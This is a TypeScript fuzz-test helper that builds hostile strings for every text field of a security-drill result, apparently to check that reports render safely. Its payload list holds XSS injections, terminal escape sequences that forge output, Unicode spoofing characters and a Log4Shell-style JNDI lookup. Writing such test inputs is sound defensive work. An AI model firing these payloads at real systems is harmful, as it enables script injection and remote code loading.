import * as fc from "fast-check";
import type { DrillResult } from "../result.ts";

const evil = [
  "<script>alert(1)</script>",
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  "</pre></style><svg/onload=alert(1)>",
  "<!--",
  "]]>",
  "&lt;b&gt; &amp;",
  "\u001b[2J\u001b]0;all is well\u0007",
  "\u202eladen\u202c",
  "\u200b\u2066\ufeff\u0000\r\u2028\u0085",
  "\ud800",
  'T1562.001" x="',
  "\n✓ held  forged: everything is well\n",
  "👩‍👩‍👧‍👦 e\u0301",
  "arn:aws:kinesis:eu-central-1:123456789012:stream/<b>",
  "${jndi:ldap://192.0.2.1/a}",
] as const;

/** What an attacker would put into names, tags and user agents, alone and among other letters. Never blank. */
export const hostileText: fc.Arbitrary<string> = fc
  .array(
    fc.oneof(fc.constantFrom(...evil), fc.string({ unit: "binary", maxLength: 12 }), fc.string({ maxLength: 60 })),
    {
      minLength: 1,
      maxLength: 5,
    },
  )
  .map((parts) => parts.join(""))
  .filter((text) => text.trim() !== "");

/** The result with each of its texts replaced, where its type allows any text. */
export const withTextsOf = (result: DrillResult, text: string): DrillResult => ({
  ...result,
  startedAt: text,
  machine: text,
  attacks: result.attacks.map((attack) => ({
    ...attack,
    id: text,
    title: text,
    story: text,
    attack: attack.attack.map(() => text),
    detections: attack.detections.map(() => text),
    outcomes: attack.outcomes.map(() => ({ action: text, type: text, resource: text, said: text })),
    checks: attack.checks.map(({ held }) => ({ what: text, held, found: text })),
    timeline: attack.timeline.map((event) => ({ ...event, what: text })),
    ...(attack.message ? { message: { subject: text, email: text, sms: text } } : {}),
  })),
});
